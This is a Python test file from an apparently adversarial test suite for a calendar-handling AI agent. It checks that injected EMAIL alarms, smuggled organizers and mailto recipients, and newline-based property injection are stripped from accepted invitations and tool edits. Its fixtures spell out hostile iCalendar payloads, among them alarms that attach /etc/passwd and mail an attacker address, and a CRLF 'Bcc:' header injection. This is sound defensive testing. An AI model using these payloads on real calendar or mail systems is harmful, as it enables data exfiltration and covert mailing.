"""Alarms that mail, and people and properties smuggled into what reaches the owner's calendar."""

from __future__ import annotations

import contextlib
import re
from zoneinfo import ZoneInfo

import pytest

from plam_agent.errors import PlamError
from plam_agent.tools.calendar import keeping, received
from tests.adversarial.scene import ATTACKER, scene
from tests.adversarial.test_headers import BREAKS
from tests.adversarial.test_origins import AT
from tests.fixtures_agent import House
from tests.scheduling import ANNA, LUNCH, changed, ics
from tests.servers import OWNER

ZONE = ZoneInfo("Europe/Paris")
EMAIL = (
    "ACTION:EMAIL", "TRIGGER:-PT5M", "SUMMARY:secret", "DESCRIPTION:secret",
    f"ATTENDEE:mailto:{ATTACKER}", "ATTACH:file:///etc/passwd",
)  # fmt: skip


def nested(begin: str = "BEGIN:VALARM", end: str = "END:VALARM") -> list[str]:
    return [begin, *EMAIL, end]


ALARMS: dict[str, list[str]] = {
    "plain": nested(),
    "small letters": nested("begin:valarm", "end:valarm"),
    "a blank": nested("BEGIN: VALARM", "END: VALARM"),
    "folded": nested("BEGIN:VAL\r\n ARM", "END:VAL\r\n ARM"),
    "folded by a tab": nested("BEG\r\n\tIN:VALARM", "E\r\n\tND:VALARM"),
    "a parameter": nested("BEGIN;X=1:VALARM", "END;X=1:VALARM"),
    "another name": nested("BEGIN:X-ALARM", "END:X-ALARM"),
    "in an alarm": ["BEGIN:VALARM", "ACTION:DISPLAY", *nested(), "END:VALARM"],
    "in a second event": [
        "END:VEVENT", "BEGIN:VEVENT", *(each for each in LUNCH if "ATTENDEE" not in each),
        "RECURRENCE-ID;TZID=Europe/Paris:20260317T120000", *nested(),
    ],
    "behind a bare line feed": [f"X-NOTE:a\n{chr(10).join(nested())}"],
    "behind a bare return": ["X-NOTE:a\r" + "\r".join(nested())],
    "behind a line separator": ["DESCRIPTION:a\u2028" + "\u2028".join(nested())],
    "behind an escaped break": ["DESCRIPTION:a\\n" + "\\n".join(nested())],
    "in a parameter": [
        'ATTENDEE;CN="x\\nBEGIN:VALARM\\nACTION:EMAIL":mailto:bo@example.com',
    ],
    "in a caret": ["ATTENDEE;CN=x^nBEGIN:VALARM^nACTION:EMAIL:mailto:bo@example.com"],
    "in a uid": ["UID:x\\nBEGIN:VALARM\\nACTION:EMAIL"],
    "in a status": ["STATUS:CONFIRMED\\nBEGIN:VALARM\\nACTION:EMAIL"],
}  # fmt: skip


def written(event: list[str], more: tuple[str, ...] = ()) -> bytes:
    """What an answered invitation leaves in the calendar; empty where it is refused."""
    text = ics("REQUEST", event, more=more).decode().replace("\r\n", "\n")
    with contextlib.suppress(PlamError):
        part = received.read(text, "REQUEST", ZONE)
        if part.organizer is None:  # then there is nobody to answer, and it is refused
            return b""
        return keeping.accepted(None, part, OWNER, "ACCEPTED", ZONE)
    return b""


def content_lines(data: bytes) -> list[str]:
    return re.sub(rb"\r\n[ \t]", b"", data).decode().split("\r\n")


@pytest.mark.parametrize("alarm", ALARMS.values(), ids=ALARMS)
def test_no_alarm_of_an_invitation_reaches_the_calendar(alarm: list[str]) -> None:
    """A calendar server that runs EMAIL alarms would mail for whoever sent the invitation."""
    own = alarm[0].startswith(("UID", "STATUS"))
    lines = content_lines(written(changed(*alarm) if own else [*LUNCH, *alarm]))

    assert not [each for each in lines if re.match(r"(?i)\W*(BEGIN|END)\W*(;.*)?:\W*V?X?-?ALARM",
                                                   each)]  # fmt: skip
    assert not [each for each in lines if re.match(r"(?i)(ACTION|TRIGGER|ATTACH)\b", each)]


def test_an_alarm_in_a_time_zone_or_beside_the_event_is_left_out() -> None:
    zone = (
        "BEGIN:VTIMEZONE", "TZID:Europe/Paris", *nested(), "BEGIN:STANDARD",
        "DTSTART:19701025T030000", "TZOFFSETFROM:+0200", "TZOFFSETTO:+0100", *nested(),
        "END:STANDARD", "END:VTIMEZONE", "BEGIN:VTODO", "UID:t", *nested(), "END:VTODO",
    )  # fmt: skip
    data = written([*LUNCH], zone)

    assert b"SUMMARY:Lunch" in data
    for word in (b"ALARM", b"EMAIL", b"VTODO", ATTACKER.encode(), b"passwd"):
        assert word not in data


PEOPLE = {
    "a second organizer": [f"ORGANIZER:mailto:{ATTACKER}", f"ORGANIZER:mailto:{ANNA}"],
    "two in one": [f"ORGANIZER:mailto:{ANNA},mailto:{ATTACKER}"],
    "a header in it": [f"ORGANIZER:mailto:{ANNA}?bcc={ATTACKER}"],
    "a break in it": [f"ORGANIZER:mailto:{ANNA}%0D%0ABcc:{ATTACKER}"],
    "sent by": [f'ORGANIZER;SENT-BY="mailto:{ATTACKER}":mailto:{ANNA}'],
    "in its name": [f'ORGANIZER;CN="{ATTACKER}":mailto:{ANNA}'],
    "its mail parameter": [f"ORGANIZER;EMAIL={ATTACKER}:mailto:{ANNA}"],
    "delegated": [f'ATTENDEE;DELEGATED-TO="mailto:{ATTACKER}":mailto:{OWNER}'],
}


@pytest.mark.parametrize("lines", PEOPLE.values(), ids=PEOPLE)
def test_an_answer_goes_to_nobody_but_the_one_organizer(lines: list[str]) -> None:
    """No second property, parameter or query of a mailto: makes another recipient."""
    event = changed(*lines)
    with contextlib.suppress(PlamError):
        part = received.read(ics("REQUEST", event).decode(), "REQUEST", ZONE)
        assert part.organizer is None or part.organizer.spec == ANNA
    for line in content_lines(written(event)):
        if line.upper().startswith(("ORGANIZER", "ATTENDEE")):
            assert "SENT-BY" not in line.upper()
            assert "DELEGATED-TO" not in line.upper()
            assert not line.endswith(f"mailto:{ATTACKER}")


@pytest.mark.parametrize("mark", BREAKS, ids=ascii)
async def test_no_property_is_smuggled_through_a_tool(house: House, mark: str) -> None:
    """Changes of an event, as new events in `test_headers.py`."""
    nasty = f"x{mark}" + mark.join((*nested(), f"ATTENDEE:mailto:{ATTACKER}"))
    rules = "\n  - {id: all, allow: [calendar.create, calendar.update]}\n"
    async with scene(house, rules) as attack:
        made = await attack.submit(attack.call("calendar.create", title="Talk", when=AT))
        event = made.outcome.result.items[0].id  # type: ignore[union-attr]
        for args in ({"title": nasty}, {"place": nasty}):
            await attack.submit(attack.call("calendar.update", event=event, **args))
    found = [
        line
        for path in house.data.calendar.glob("*.ics")
        for line in content_lines(path.read_bytes())
        if ATTACKER in line or "ACTION:EMAIL" in line
    ]
    assert not [line for line in found if not re.match(r"(SUMMARY|LOCATION)[:;]", line)]
